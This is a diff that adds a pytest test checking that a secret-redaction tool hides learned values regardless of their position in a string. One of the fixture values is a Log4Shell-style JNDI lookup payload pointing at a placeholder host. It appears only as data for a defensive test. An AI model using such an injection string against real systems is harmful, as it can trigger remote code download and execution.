@@ -145,6 +145,17 @@ def test_what_is_said_openly_gives_nothing_away() -> None:
     assert "4f9c1e" not in redactor.text("a sandbox.example-widget-session-4f9c1e b")
 
 
+@pytest.mark.parametrize("before", range(10))
+def test_what_is_hidden_does_not_depend_on_its_place(before: int) -> None:
+    """Where two values share a run that only gives away the shorter one, it is hidden wherever it stands."""
+    redactor = Redactor(b"key")
+    assert redactor.learn("long", "somebody at rampcheck.example, of whom no more is known than this one long sentence")
+    assert redactor.learn("short", "${jndi:ldap://rampcheck.example/x}")
+    shown = redactor.text("-" * before + "https://rampcheck.example/done")
+    assert "rampcheck.example" not in shown
+    assert shown.startswith("-" * before + "https[redacted short ")
+
+
 def test_a_flood_of_new_values_is_forgotten_in_time() -> None:
     """What is kept in mind has a bound; the newest values are always found, and credentials for ever."""
     search = Search()
